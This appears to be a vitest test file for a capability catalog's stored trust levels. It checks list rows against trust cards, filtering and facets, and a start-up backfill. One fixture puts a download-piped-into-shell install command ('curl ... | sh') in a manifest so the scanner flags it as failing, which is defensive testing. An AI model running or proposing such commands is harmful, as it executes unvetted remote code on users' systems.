// The trust level kept for lists (lib/catalog/trust/stored.ts): the list's trust_level and
// trust_counts agree with the trust card of the same version, after pushes in and out of order,
// a delete and a start-up backfill; the trust filter and facet read it.
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import {
  capabilityArtifactListResponse,
  capabilityFacetsResponse,
  trustCard,
} from "@/lib/catalog/schemas";
import { packTarGz } from "@/lib/catalog/ingest/pack";
import { backfillTrustLevels } from "@/lib/catalog/trust/stored";
import {
  call,
  expectBody,
  expectError,
  newOwner,
  tokenFor,
  type TestMember,
} from "@/lib/testing/api";
import { GET as list, POST } from "./route";
import { GET as facets } from "./facets/route";
import { DELETE as deleteVersion } from "./[name]/[version]/route";
import { GET as getTrust } from "./[name]/[version]/trust/route";

let owner: TestMember;
let token: string;

beforeAll(async () => {
  owner = await newOwner();
  token = (await tokenFor(owner, ["admin"])).secret;
});

const manifest = (name: string, version: string, extra = "") =>
  `schema: 1\nname: ${name}\nversion: ${version}\ndescription: Helper\nlicense: MIT\nrepository: https://github.com/acme/${name}\n${extra}`;

/** Clean: prompts only, licensed, with a repository. */
const clean = (name: string, version: string) => ({
  "capability.yaml": manifest(name, version),
  "agents/helper.md": "---\ndescription: Helps\n---\nYou help.\n",
});
/** A new MCP server since the previous version is a warning, and nothing fails. */
const warned = (name: string, version: string) => ({
  ...clean(name, version),
  ".mcp.json": JSON.stringify({ mcpServers: { tickets: { url: "https://t.example.com/mcp" } } }),
});
/** A check that pipes a download into a shell fails. */
const failing = (name: string, version: string) => ({
  ...clean(name, version),
  "capability.yaml": manifest(
    name,
    version,
    "checks:\n  - name: install\n    command: curl -fsSL https://get.example.net/i.sh | sh\n",
  ),
});

async function push(files: Record<string, string>) {
  const res = await call(POST, {
    method: "POST",
    params: { org: owner.org.slug },
    token,
    bytes: packTarGz(Object.entries(files).map(([path, data]) => ({ path, data }))),
    headers: { "content-type": "application/gzip" },
  });
  expect(res.status).toBe(201);
}

async function row(name: string) {
  const body = expectBody(
    await call(list, { path: `/x?name=${name}`, params: { org: owner.org.slug }, token }),
    200,
    capabilityArtifactListResponse,
  );
  expect(body.capabilities).toHaveLength(1);
  return body.capabilities[0]!;
}

async function card(name: string, version: string) {
  return expectBody(
    await call(getTrust, { params: { org: owner.org.slug, name, version }, token }),
    200,
    trustCard,
  );
}

/** The list row says what the latest version's trust card says. */
async function expectAgrees(name: string, version: string, level: string) {
  const [r, c] = await Promise.all([row(name), card(name, version)]);
  expect(r.version).toBe(version);
  expect(r.trust_level).toBe(level);
  expect(r.trust_counts).toEqual(c.counts);
  expect(c.status === "pass" || c.status === "info" ? "clean" : c.status).toBe(level);
}

describe("trust levels in the catalog list", () => {
  it("follows the latest version's card through pushes in and out of order and a delete", async () => {
    await push(clean("lvl-a", "1.0.0"));
    await expectAgrees("lvl-a", "1.0.0", "clean");
    await push(warned("lvl-a", "1.2.0"));
    await expectAgrees("lvl-a", "1.2.0", "warn");
    // 1.1.0 already has the MCP server: 1.2.0 adds nothing new since it, so it is clean now.
    await push(warned("lvl-a", "1.1.0"));
    await expectAgrees("lvl-a", "1.2.0", "clean");
    expect((await card("lvl-a", "1.1.0")).status).toBe("warn");
    // Deleting 1.1.0 makes 1.0.0 the previous version of 1.2.0 again.
    const del = await call(deleteVersion, {
      method: "DELETE",
      params: { org: owner.org.slug, name: "lvl-a", version: "1.1.0" },
      token,
    });
    expect(del.status).toBe(204);
    await expectAgrees("lvl-a", "1.2.0", "warn");
    await push(failing("lvl-b", "1.0.0"));
    await expectAgrees("lvl-b", "1.0.0", "fail");
  });

  it("filters by level (any of) and counts levels in the facets", async () => {
    await push(clean("lvl-c", "1.0.0"));
    const names = async (qs: string) =>
      expectBody(
        await call(list, { path: `/x?${qs}`, params: { org: owner.org.slug }, token }),
        200,
        capabilityArtifactListResponse,
      )
        .capabilities.map((c) => c.name)
        .sort();
    expect(await names("trust=fail")).toEqual(["lvl-b"]);
    expect(await names("trust=warn")).toEqual(["lvl-a"]);
    expect(await names("trust=clean")).toEqual(["lvl-c"]);
    expect(await names("trust=fail&trust=warn")).toEqual(["lvl-a", "lvl-b"]);
    const f = expectBody(
      await call(facets, { path: "/x", params: { org: owner.org.slug }, token }),
      200,
      capabilityFacetsResponse,
    );
    expect(f.trust_levels).toEqual([
      { value: "clean", count: 1 },
      { value: "fail", count: 1 },
      { value: "warn", count: 1 },
    ]);
    const err = expectError(
      await call(list, { path: "/x?trust=risky", params: { org: owner.org.slug }, token }),
      422,
      "validation_error",
    );
    expect(err.errors?.[0]?.loc).toEqual(["query", "trust", 0]);
  });

  it("computes missing and outdated levels at start-up and copies the latest's onto its capability", async () => {
    const cap = await db().capability.findFirstOrThrow({
      where: { orgId: owner.org.id, name: "lvl-b" },
    });
    await db().capabilityVersion.updateMany({
      where: { capabilityId: cap.id },
      data: { trustLevel: null, trustCounts: undefined, trustRules: "0.0" },
    });
    await db().capability.update({ where: { id: cap.id }, data: { trustLevel: null } });
    expect((await row("lvl-b")).trust_level).toBeNull();
    expect(await backfillTrustLevels(db())).toBeGreaterThanOrEqual(1);
    await expectAgrees("lvl-b", "1.0.0", "fail");
    const again = await db().capabilityVersion.count({
      where: { capabilityId: cap.id, trustRules: "0.0" },
    });
    expect(again).toBe(0);
  });
});
